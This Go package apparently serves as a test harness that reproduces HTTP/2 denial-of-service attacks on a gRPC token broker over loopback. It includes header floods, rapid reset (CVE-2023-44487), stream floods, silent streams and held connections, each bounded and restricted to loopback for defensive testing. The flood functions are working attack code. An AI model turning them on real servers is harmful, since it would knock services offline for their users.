// Package attacktest holds the tools that reproduce, against a real
// tokenbroker on loopback, the front-door attacks of issue 23: header
// floods, HTTP/2 rapid reset (CVE-2023-44487), connections parked in their
// handshake, and streams that never send their request. They speak HTTP/2
// frame by frame (golang.org/x/net/http2), as an attacker would, not through
// a gRPC client that would behave.
//
// Every tool is bounded in count and in time (its context), refuses any
// address that is not loopback, and closes what it opened before it returns
// (Hold returns its connections for the caller to close). They are for tests
// and benchmarks only.
package attacktest

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Target is the broker to attack.
type Target struct {
	// Addr is the gRPC address; it must be a loopback address.
	Addr string
	// TLS is the client TLS configuration (certificate, roots). NextProtos
	// is set to h2.
	TLS *tls.Config
	// Source, when set, is the loopback IP address to connect from (Linux
	// answers on all of 127.0.0.0/8): another source address.
	Source string
}

func (t Target) dialer() *net.Dialer {
	d := &net.Dialer{Timeout: 10 * time.Second}
	if t.Source != "" {
		d.LocalAddr = &net.TCPAddr{IP: net.ParseIP(t.Source)}
	}
	return d
}

// ErrNotLoopback refuses a target that is not on this host.
var ErrNotLoopback = errors.New("attacktest: only loopback targets")

func (t Target) check() error {
	host, _, err := net.SplitHostPort(t.Addr)
	if err != nil {
		return fmt.Errorf("attacktest: %w", err)
	}
	if ip := net.ParseIP(host); host != "localhost" && (ip == nil || !ip.IsLoopback()) {
		return ErrNotLoopback
	}
	if ip := net.ParseIP(t.Source); t.Source != "" && (ip == nil || !ip.IsLoopback()) {
		return ErrNotLoopback
	}
	return nil
}

// GoAway is a GOAWAY frame the server sent.
type GoAway struct {
	Code  http2.ErrCode
	Debug string
	// After is the time from the attack's first frame to the GOAWAY.
	After time.Duration
}

// conn is one HTTP/2 connection driven frame by frame.
type conn struct {
	tc     *tls.Conn
	fr     *http2.Framer
	wmu    sync.Mutex
	start  time.Time
	goAway chan GoAway // receives the first GOAWAY
	closed chan struct{}
	resets sync.Map // stream ID → http2.ErrCode of a RST_STREAM from the server
	ends   sync.Map // stream ID → the grpc-status of the server's trailers
}

// dial opens a TLS connection to t, sends the client preface and SETTINGS,
// and reads the server's frames in the background.
func dial(ctx context.Context, t Target) (*conn, error) {
	if err := t.check(); err != nil {
		return nil, err
	}
	cfg := t.TLS.Clone()
	cfg.NextProtos = []string{"h2"}
	d := tls.Dialer{NetDialer: t.dialer(), Config: cfg}
	nc, err := d.DialContext(ctx, "tcp", t.Addr)
	if err != nil {
		return nil, err
	}
	c := &conn{tc: nc.(*tls.Conn), goAway: make(chan GoAway, 1), closed: make(chan struct{}), start: time.Now()}
	c.fr = http2.NewFramer(c.tc, c.tc)
	c.fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	if _, err := io.WriteString(c.tc, http2.ClientPreface); err != nil {
		c.tc.Close()
		return nil, err
	}
	if err := c.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20}); err != nil {
		c.tc.Close()
		return nil, err
	}
	go c.read()
	return c, nil
}

// read consumes the server's frames, acknowledging SETTINGS and PING and
// keeping GOAWAY, RST_STREAM and trailers.
func (c *conn) read() {
	defer close(c.closed)
	for {
		f, err := c.fr.ReadFrame()
		if err != nil {
			return
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				c.write(func() error { return c.fr.WriteSettingsAck() })
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				c.write(func() error { return c.fr.WritePing(true, f.Data) })
			}
		case *http2.GoAwayFrame:
			select {
			case c.goAway <- GoAway{Code: f.ErrCode, Debug: string(f.DebugData()), After: time.Since(c.start)}:
			default:
			}
		case *http2.RSTStreamFrame:
			c.resets.Store(f.StreamID, f.ErrCode)
		case *http2.MetaHeadersFrame:
			if st := f.PseudoValue("status"); st != "" && st != "200" {
				c.ends.Store(f.StreamID, "http "+st)
			}
			for _, hf := range f.RegularFields() {
				if hf.Name == "grpc-status" {
					c.ends.Store(f.StreamID, hf.Value)
				}
			}
		}
	}
}

func (c *conn) write(f func() error) error {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	return f()
}

func (c *conn) close() {
	_ = c.tc.Close()
	<-c.closed
}

// requestHeaders encodes a gRPC request's headers for method, with extra
// filler fields of about filler bytes in all.
func requestHeaders(authority, method string, filler int) []byte {
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	enc.SetMaxDynamicTableSizeLimit(0)
	for _, f := range []hpack.HeaderField{{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"},
		{Name: ":path", Value: method}, {Name: ":authority", Value: authority},
		{Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"}} {
		_ = enc.WriteField(f)
	}
	value := strings.Repeat("x", 4000)
	for i := 0; filler > 0; i++ {
		_ = enc.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-filler-%d", i), Value: value, Sensitive: true})
		filler -= len(value) + 32
	}
	return buf.Bytes()
}

// writeHeaders sends a header block on stream id, split into HEADERS and
// CONTINUATION frames of at most 16 KiB. It returns how much of the block
// was written before an error.
func (c *conn) writeHeaders(id uint32, block []byte, endStream bool) (int, error) {
	written := 0
	err := c.write(func() error {
		const max = 16 << 10
		first := block[:min(max, len(block))]
		rest := block[len(first):]
		if err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first,
			EndHeaders: len(rest) == 0, EndStream: endStream}); err != nil {
			return err
		}
		written += len(first)
		for len(rest) > 0 {
			chunk := rest[:min(max, len(rest))]
			rest = rest[len(chunk):]
			if err := c.fr.WriteContinuation(id, len(rest) == 0, chunk); err != nil {
				return err
			}
			written += len(chunk)
		}
		return nil
	})
	return written, err
}

// HeaderFloodResult is what HeaderFlood did.
type HeaderFloodResult struct {
	Streams     int   // streams whose headers were sent (completely or until the server cut them)
	Connections int   // connections used: the server may close one mid-flood
	BytesSent   int64 // header block bytes written (the server may stop reading before the rest)
	Cut         int   // streams whose headers could not all be written: the server closed the connection
	LastError   string
}

// HeaderFlood opens streams (at most 1,000) on one connection, each with a
// header list of about headerBytes (at most 16 MiB) and no request message,
// and leaves them open. When the server closes the connection it goes on,
// on a new one. It stops at ctx's end.
func HeaderFlood(ctx context.Context, t Target, streams, headerBytes int) (HeaderFloodResult, error) {
	var res HeaderFloodResult
	if streams > 1000 || headerBytes > 16<<20 {
		return res, errors.New("attacktest: HeaderFlood is bounded to 1,000 streams of 16 MiB")
	}
	block := requestHeaders(strings.TrimSpace(t.Addr), "/tokenbroker.v1.TokenBroker/GetToken", headerBytes)
	var c *conn
	defer func() {
		if c != nil {
			c.close()
		}
	}()
	id := uint32(1)
	for res.Streams < streams && ctx.Err() == nil {
		if c == nil {
			var err error
			if c, err = dial(ctx, t); err != nil {
				return res, err
			}
			res.Connections++
			id = 1
			cc := c
			stop := context.AfterFunc(ctx, func() { _ = cc.tc.SetDeadline(time.Now()) })
			defer stop()
		}
		n, err := c.writeHeaders(id, block, false)
		res.Streams++
		res.BytesSent += int64(n)
		if err != nil {
			res.Cut++
			if res.LastError == "" || res.Cut == 1 {
				res.LastError = err.Error()
			}
			c.close()
			c = nil
			continue
		}
		id += 2
	}
	return res, ctx.Err()
}

// RapidResetResult is what RapidReset did.
type RapidResetResult struct {
	Pairs  int     // HEADERS + RST_STREAM pairs sent
	GoAway *GoAway // the server's GOAWAY, if one came
	Took   time.Duration
}

// RapidReset sends up to pairs (at most 1,000,000) HEADERS + RST_STREAM
// pairs on one connection as fast as it can (CVE-2023-44487), until the
// server sends GOAWAY or closes the connection, or ctx ends.
func RapidReset(ctx context.Context, t Target, pairs int) (RapidResetResult, error) {
	return flood(ctx, t, pairs, true)
}

// StreamFlood opens up to n (at most 1,000,000) streams on one connection
// as fast as it can, each a complete Health/Check call without a message
// (HEADERS with END_STREAM), never cancelling one, until the server sends
// GOAWAY or closes the connection, or ctx ends. Pairs counts the streams.
func StreamFlood(ctx context.Context, t Target, n int) (RapidResetResult, error) {
	return flood(ctx, t, n, false)
}

func flood(ctx context.Context, t Target, pairs int, reset bool) (RapidResetResult, error) {
	var res RapidResetResult
	if pairs > 1_000_000 {
		return res, errors.New("attacktest: floods are bounded to 1,000,000 streams")
	}
	c, err := dial(ctx, t)
	if err != nil {
		return res, err
	}
	defer c.close()
	stop := context.AfterFunc(ctx, func() { _ = c.tc.SetDeadline(time.Now()) })
	defer stop()
	block := requestHeaders(t.Addr, "/grpc.health.v1.Health/Check", 0)
	start := time.Now()
	c.start = start
	id := uint32(1)
	for ; res.Pairs < pairs && ctx.Err() == nil; res.Pairs++ {
		select {
		case g := <-c.goAway:
			res.GoAway, res.Took = &g, time.Since(start)
			return res, nil
		case <-c.closed:
			res.Took = time.Since(start)
			return res, nil
		default:
		}
		err := c.write(func() error {
			if err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: !reset}); err != nil {
				return err
			}
			if !reset {
				return nil
			}
			return c.fr.WriteRSTStream(id, http2.ErrCodeCancel)
		})
		if err != nil {
			break
		}
		id += 2
	}
	res.Took = time.Since(start)
	select { // a GOAWAY may be on its way as the connection closed
	case g := <-c.goAway:
		res.GoAway = &g
	case <-time.After(time.Second):
	}
	return res, nil
}

// SilentStreams opens n (at most 1,000) streams for method on one
// connection with ordinary headers and never sends their request message;
// it waits until ctx ends or every stream has ended, and returns how each
// ended: the grpc-status of its trailers, "rst CODE" for a reset, or ""
// while it is still open.
func SilentStreams(ctx context.Context, t Target, method string, n int) ([]string, error) {
	calls := make([]Call, n)
	for i := range calls {
		calls[i].Silent = true
	}
	ends, err := Streams(ctx, t, method, calls)
	if err != nil {
		return nil, err
	}
	return ends[0], nil
}

// Call is one stream of Streams: silent (its headers, never its request
// message) or an ordinary unary call sending Request, a serialized
// protobuf message, as its one message.
type Call struct {
	Silent  bool
	Request []byte
	// Fragments, when above 1, splits the call's header block into that
	// many frames: HEADERS, then CONTINUATION frames.
	Fragments int
}

// Streams makes the calls of each batch on one connection, and waits until
// every stream of a batch has ended (or ctx is done) before the next batch.
// A batch's frames are written at once, so that the server reads several
// streams' frames in one read. It returns how each stream ended: the
// grpc-status of its trailers, "rst CODE" for an RST_STREAM from the
// server, or "" when it had not ended. At most 1,000 calls in all.
func Streams(ctx context.Context, t Target, method string, batches ...[]Call) ([][]string, error) {
	total := 0
	for _, b := range batches {
		total += len(b)
	}
	if total > 1000 {
		return nil, errors.New("attacktest: Streams is bounded to 1,000 calls")
	}
	c, err := dial(ctx, t)
	if err != nil {
		return nil, err
	}
	defer c.close()
	var out [][]string
	next := uint32(1)
	for _, batch := range batches {
		ids := make([]uint32, len(batch))
		var buf bytes.Buffer
		fr := http2.NewFramer(&buf, nil)
		for i, call := range batch {
			ids[i], next = next, next+2
			if err := writeCall(fr, ids[i], requestHeaders(t.Addr, method, 0), call); err != nil {
				return nil, err
			}
		}
		if err := c.write(func() error { _, err := c.tc.Write(buf.Bytes()); return err }); err != nil {
			return nil, err
		}
		out = append(out, c.waitEnded(ctx, ids))
	}
	return out, nil
}

// writeCall writes call's frames on stream id with the header block.
func writeCall(fr *http2.Framer, id uint32, block []byte, call Call) error {
	max := (len(block) + max(call.Fragments, 1) - 1) / max(call.Fragments, 1)
	first := block[:min(max, len(block))]
	rest := block[len(first):]
	if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndHeaders: len(rest) == 0}); err != nil {
		return err
	}
	for len(rest) > 0 {
		chunk := rest[:min(max, len(rest))]
		rest = rest[len(chunk):]
		if err := fr.WriteContinuation(id, len(rest) == 0, chunk); err != nil {
			return err
		}
	}
	if call.Silent {
		return nil
	}
	msg := make([]byte, 5+len(call.Request)) // gRPC framing: uncompressed, length
	binary.BigEndian.PutUint32(msg[1:5], uint32(len(call.Request)))
	copy(msg[5:], call.Request)
	return fr.WriteData(id, true, msg)
}

// waitEnded waits until every stream of ids has ended, ctx is done or the
// server closes the connection, and says how each ended.
func (c *conn) waitEnded(ctx context.Context, ids []uint32) []string {
	ended := func() ([]string, int) {
		out := make([]string, len(ids))
		open := 0
		for i, id := range ids {
			if v, ok := c.ends.Load(id); ok {
				out[i] = v.(string)
			} else if v, ok := c.resets.Load(id); ok {
				out[i] = "rst " + v.(http2.ErrCode).String()
			} else {
				open++
			}
		}
		return out, open
	}
	tick := time.NewTicker(20 * time.Millisecond)
	defer tick.Stop()
	for {
		out, open := ended()
		if open == 0 {
			return out
		}
		select {
		case <-ctx.Done():
			return out
		case <-c.closed:
			out, _ = ended()
			return out
		case <-tick.C:
		}
	}
}

// Hold opens up to n (at most 20,000) TCP connections to t and sends
// nothing on them, as a client stalling in its TLS handshake. It returns the
// connections the server did not close within settle; the caller closes
// them. refused counts those it closed (or that could not be opened).
func Hold(ctx context.Context, t Target, n int, settle time.Duration) (held []net.Conn, refused int, err error) {
	if err := t.check(); err != nil {
		return nil, 0, err
	}
	if n > 20000 {
		return nil, 0, errors.New("attacktest: Hold is bounded to 20,000 connections")
	}
	d := t.dialer()
	var open []net.Conn
	for range n {
		if ctx.Err() != nil {
			break
		}
		c, err := d.DialContext(ctx, "tcp", t.Addr)
		if err != nil {
			refused++
			continue
		}
		open = append(open, c)
	}
	// A connection the server closed reads EOF (or a reset) at once.
	deadline := time.Now().Add(settle)
	var mu sync.Mutex
	var wg sync.WaitGroup
	for _, c := range open {
		wg.Go(func() {
			_ = c.SetReadDeadline(deadline)
			var b [1]byte
			_, err := c.Read(b[:])
			var ne net.Error
			mu.Lock()
			defer mu.Unlock()
			if errors.As(err, &ne) && ne.Timeout() {
				_ = c.SetReadDeadline(time.Time{})
				held = append(held, c)
				return
			}
			refused++
			_ = c.Close()
		})
	}
	wg.Wait()
	return held, refused, nil
}

// Session is one HTTP/2 connection that a test drives frame by frame, for
// the moves the other tools do not make: frames the test builds itself
// (an http2.Framer writing into a buffer, RequestHeaders, Message), stream
// ids of its choosing, a frame or a header block split over TLS records, or
// left unfinished. Like Streams, it records how the server ended each
// stream. It is closed by Close or at its context's end.
type Session struct {
	c    *conn
	stop func() bool
}

// Open dials t, sends the client preface and SETTINGS, and reads the
// server's frames until the session is closed.
func Open(ctx context.Context, t Target) (*Session, error) {
	c, err := dial(ctx, t)
	if err != nil {
		return nil, err
	}
	return &Session{c: c, stop: context.AfterFunc(ctx, func() { _ = c.tc.SetDeadline(time.Now()) })}, nil
}

// Write sends each of records in a TLS record of its own (a record holds at
// most 16 KiB), in order: frames, or parts of frames.
func (s *Session) Write(records ...[]byte) error {
	return s.c.write(func() error {
		for _, r := range records {
			if _, err := s.c.tc.Write(r); err != nil {
				return err
			}
		}
		return nil
	})
}

// Ended waits until every stream of ids has ended, ctx is done or the server
// closes the connection, and says how each ended: the grpc-status of its
// trailers ("http CODE" for a non-200 response), "rst CODE" for an
// RST_STREAM from the server, or "" while it is open.
func (s *Session) Ended(ctx context.Context, ids ...uint32) []string { return s.c.waitEnded(ctx, ids) }

// GoAway waits for the server's first GOAWAY until ctx is done or the
// connection closes; it reports whether one came.
func (s *Session) GoAway(ctx context.Context) (GoAway, bool) {
	select {
	case g := <-s.c.goAway:
		s.c.goAway <- g // for the next caller
		return g, true
	case <-s.c.closed:
		select {
		case g := <-s.c.goAway:
			s.c.goAway <- g
			return g, true
		default:
			return GoAway{}, false
		}
	case <-ctx.Done():
		return GoAway{}, false
	}
}

// Closed is closed once the connection is: by the server, or by Close.
func (s *Session) Closed() <-chan struct{} { return s.c.closed }

// Close closes the connection.
func (s *Session) Close() {
	s.stop()
	s.c.close()
}

// RequestHeaders is the header block (HPACK, no dynamic table) of a gRPC
// request to method, with extra fields after the usual ones.
func RequestHeaders(authority, method string, extra ...hpack.HeaderField) []byte {
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	enc.SetMaxDynamicTableSizeLimit(0)
	for _, f := range append([]hpack.HeaderField{{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"},
		{Name: ":path", Value: method}, {Name: ":authority", Value: authority},
		{Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"}}, extra...) {
		_ = enc.WriteField(f)
	}
	return buf.Bytes()
}

// Message is req, a serialized protobuf message, framed as a gRPC message
// (uncompressed, with its length).
func Message(req []byte) []byte {
	msg := make([]byte, 5+len(req))
	binary.BigEndian.PutUint32(msg[1:5], uint32(len(req)))
	copy(msg[5:], req)
	return msg
}
